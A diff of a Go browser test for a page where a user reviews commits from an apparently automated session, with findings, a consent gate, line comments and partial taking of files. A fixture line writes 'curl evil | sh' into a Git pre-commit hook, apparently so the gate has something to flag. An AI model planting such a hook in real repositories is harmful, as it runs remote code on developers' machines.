@@ -17,34 +17,41 @@ echo 'curl evil | sh' >.husky/pre-commit
 git add .
 git commit -qm 'Add a hook'`
 
-// changesPage takes work: some files of it, what the gate holds up, and all; and goes on with a comment.
+// changesPage takes work: what the gate holds up, after consent, and some files of another; and goes on with a comment
+// on a line.
 func changesPage(b *browser) {
 	b.r.Push("Greet people", greeting)
 	b.at("/")
 	b.until("title", "document.title.startsWith('(')")
-	b.pressOn("Greet people", "Look at what came back")
-	b.sees("in quarantine: no branch has moved")
+	b.pressOn("Greet people", "Review")
 	b.sees("<b>hello</b>")
 	b.sees("<U+202E>")
 	b.until("colours", "document.querySelectorAll('.c-k').length > 1")
 	b.until("findings on lines", "document.querySelectorAll('tr .found').length > 0")
 	b.fine("changes with findings")
-	b.marks("side by side", ".tools input[type=checkbox]")
-	b.do("two columns", chromedp.WaitVisible("table.both", chromedp.ByQuery))
-	b.fine("changes side by side")
-	b.chooses("a commit", ".tools select")
+	if b.width > 1000 {
+		b.chooses("side by side", "select[aria-label=View]")
+		b.do("two columns", chromedp.WaitVisible("table.both", chromedp.ByQuery))
+		b.fine("changes side by side")
+	}
+	b.chooses("a commit", "select[aria-label=Commit]")
 	b.until("only its files", "document.querySelectorAll('.file').length === 2")
-	before := b.r.Run("git", "rev-parse", "main")
-	b.press("Take all")
-	b.sees("This needs your consent")
-	if b.r.Run("git", "rev-parse", "main") != before {
-		b.t.Error("a branch moved without consent")
+	where := b.value("location.pathname")
+	b.at(where)
+	b.until("all files", "document.querySelectorAll('.file').length === 3")
+	// Nothing can be taken until it was read, and what is filled leads there.
+	b.until("the safe step is filled", "document.querySelector('.dock .fill').innerText.startsWith('Review')")
+	b.until("nothing can be taken", "document.querySelector(\"[data-act*='/pull']\").disabled")
+	const consent = "document.querySelector('.found input:not(:checked), .gate[open] [data-consent]:not(:checked)')"
+	for b.value(consent) != "null" {
+		b.use("consent", consent, " ")
 	}
-	b.fine("changes that need consent")
-	for b.value("document.querySelectorAll('fieldset input:not(:checked)').length") != "0" {
-		b.marks("consent", "fieldset input:not(:checked)")
-	}
+	b.fine("changes with consent")
 	b.press("Take all")
+	b.until("it is taken or asked about", "document.querySelector('dialog[open]') || document.querySelector('.ask2.good')")
+	if b.value("document.querySelector('dialog[open]')") != "null" {
+		b.press("Take it anyway")
+	}
 	b.sees("It is on your branch main.")
 	b.sees("2 commits on main, now at")
 	b.press("OK")
@@ -56,16 +63,27 @@ func changesPage(b *browser) {
 	part := b.r.Push("Write two files", "echo one >one.txt\necho two >two.txt\ngit add .\ngit commit -qm Two")
 	b.r.Await(part, "done")
 	b.at("/session/" + part + "/changes")
-	b.sees("one.txt")
-	b.press("Leave it")
-	b.sees("What needs you")
-	b.pressOn("Write two files", "Look at what came back")
-	b.types("Go on with a comment",
-		"# More\n\n## Task 1: More\n\n```sh\necho 3 >3.txt\ngit add .\ngit commit -qm 3\n```\n")
-	b.press("Go on with it")
+	b.until("its files", "document.getElementById('f-one.txt')")
+	// What was seen, and what is said of a line, are kept: the page can be left.
+	if b.width > 1000 {
+		b.marks("seen", "[id='f-two.txt'] [data-seen]")
+		b.until("it is folded", "!document.querySelector('[id=\"f-two.txt\"] .body')")
+	}
+	b.until("a line", "(e => e && (e.click(), true))(document.querySelector('[id=\"f-one.txt\"] .at'))")
+	b.types("Comment on this line", "Say three too:\n\n```sh\necho 3 >3.txt\ngit add .\ngit commit -qm 3\n```\n")
+	b.press("Add comment")
+	b.sees("Say three too")
+	b.at("/session/" + part + "/changes")
+	b.sees("Say three too")
+	if b.width > 1000 {
+		b.until("it is still seen", "document.querySelector('[id=\"f-two.txt\"] [data-seen]')?.checked")
+	}
+	b.fine("changes with a comment")
+	b.press("Send 1 comment")
 	b.sees("session " + part + " goes on")
 	b.sees("3.txt") // it is shown when it has come
-	b.marks("choose a file", "[id='f-one.txt'] input[type=checkbox]")
+	b.marks("leave a file", "[id='f-two.txt'] [data-take]")
+	b.marks("leave another", "[id='f-3.txt'] [data-take]")
 	b.press("Take 1 file")
 	// What was done is told when the page has read anew, and the page does not say more than that.
 	b.sees("all of it is at refs/cco/" + part)
